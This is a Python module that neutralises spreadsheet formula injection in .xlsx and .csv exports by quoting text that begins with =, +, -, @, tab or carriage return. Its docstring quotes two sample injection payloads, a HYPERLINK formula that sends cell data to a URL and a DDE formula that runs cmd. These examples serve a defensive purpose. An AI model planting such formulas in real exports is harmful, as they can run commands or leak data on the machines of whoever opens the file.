"""The one writer of export cells (.xlsx and .csv): imported text never becomes a live formula.

A spreadsheet reads a cell whose text begins with = + - @, a tab or a carriage return as a formula
(`=HYPERLINK("http://…"&A2,"详情")`, `=cmd|' /C calc'!A0`). As OWASP recommends for CSV injection, such text is
written with a single quote in front and otherwise unchanged. Numbers stay numbers, and a text that is a plain
number ("-3.5") is left alone: a spreadsheet reads it as that number, never as a formula. In .xlsx every text is
also written as a string cell, since openpyxl would otherwise store a text beginning with "=" as a formula.
Every export (case lists, the 下载 buttons, the briefing workbook, scores, rejected rows, the command line's csv)
goes through `neutralise`, `csv_rows` / `csv_bytes` or `set_cell`.
"""
import csv
import io
import math
import re

import numpy as np
import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value):
    """A text that a spreadsheet would run, quoted; any other value as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_rows(out, headers: list, rows, lineterminator: str = "\r\n") -> None:
    """Write a header line and the rows (sequences of values; None as empty) to a text stream."""
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([neutralise(str(h)) for h in headers])
    writer.writerows([_csv_value(v) for v in row] for row in rows)


def _csv_value(value):
    value = cell_value(value)
    return "" if value is None else value


def csv_bytes(headers: list, rows) -> bytes:
    """A CSV file in UTF-8 with a BOM, so that Excel shows the Chinese correctly."""
    out = io.StringIO()
    csv_rows(out, headers, rows)
    return out.getvalue().encode("utf-8-sig")


def cell_value(value):
    """A value as openpyxl stores it: numpy scalars as Python numbers, missing (None, NaN, NaT) as empty."""
    if isinstance(value, np.datetime64):
        value = pd.Timestamp(value)
    elif isinstance(value, np.generic):
        value = value.item()
    if value is None or value is pd.NaT or (isinstance(value, float) and math.isnan(value)):
        return None
    return neutralise(value)


def set_cell(ws, row: int, column: int, value):
    """Write one cell of an openpyxl worksheet; text is always a string cell, never a formula."""
    cell = ws.cell(row, column)
    cell.value = cell_value(value)
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell
